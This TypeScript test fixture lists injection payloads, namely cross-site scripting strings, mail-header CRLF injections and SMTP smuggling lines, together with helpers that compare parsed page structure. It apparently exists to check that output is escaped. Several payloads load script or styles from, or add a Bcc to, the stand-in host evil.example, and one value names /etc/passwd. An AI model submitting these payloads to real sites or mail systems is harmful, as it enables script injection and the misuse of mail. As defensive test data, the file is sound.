/** Injection payloads for HTML, mail headers and spreadsheets. */
import { FORMULAS } from './csv.ts';
import type { parsedPage } from './parsed-page.ts';

/** Markup and script injections. */
export const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u00a0>alert(1)</script>',
  '<script/x>alert(1)</script/x>',
  '<script\t>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '"><img src=x onerror=alert(1)>',
  '</td></tr></table><img src=x onerror=alert(1)>',
  '</p><img src="x:x" onerror="alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>open</a>',
  '<a href="jav&#x09;ascript:alert(1)">open</a>',
  '<form action=javascript:alert(1)><button>send</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '" onfocus="alert(1)" autofocus="',
  "' onmouseover='alert(1)",
  '` onclick=`alert(1)',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
] as const;

/** Mail header and address injections. */
export const HEADER_LINES = [
  'a\r\nBcc: everybody@evil.example',
  'a\nBcc: everybody@evil.example',
  'a\rBcc: everybody@evil.example',
  'a\r\n Bcc: everybody@evil.example',
  'a\r\n\r\n<b>another body</b>',
  'a\nContent-Type: text/html\n\n<b>another body</b>',
  'a\u2028Bcc: everybody@evil.example',
  'a\u0085Bcc: everybody@evil.example',
  'a\u0000Bcc: everybody@evil.example',
  'a%0d%0aBcc: everybody@evil.example',
  '=?utf-8?Q?a=0D=0ABcc=3A_everybody=40evil.example?=',
  '=?utf-8?B?YQ0KQmNjOiBldmVyeWJvZHlAZXZpbC5leGFtcGxl?=',
  '"a" <everybody@evil.example>',
  'a" <everybody@evil.example>, "b',
  'a, everybody@evil.example',
  'group: everybody@evil.example;',
  '(comment) everybody@evil.example',
  '{"path":"/etc/passwd"}',
  `a\r\n.\r\nMAIL FROM:<everybody@evil.example>`,
  `${'a'.repeat(990)}\r\nBcc: everybody@evil.example`,
] as const;

/** All payloads, formulas included. */
export const TEXTS = [...SCRIPTS, ...HEADER_LINES, ...FORMULAS];

/** Valid in every field: enough digits for a telephone number, no blank for an id. */
export const HARMLESS = 'Harmless-123456789';

export const sameLines = (text: string) => text.replaceAll(/\r\n?/g, '\n').trim();

/** Elements and attributes, without field values. */
export const structureOf = (page: ReturnType<typeof parsedPage>) =>
  page.parts.map(({ tag, attributes: { value, ...attributes } }) => ({ tag, attributes, has: value !== undefined }));
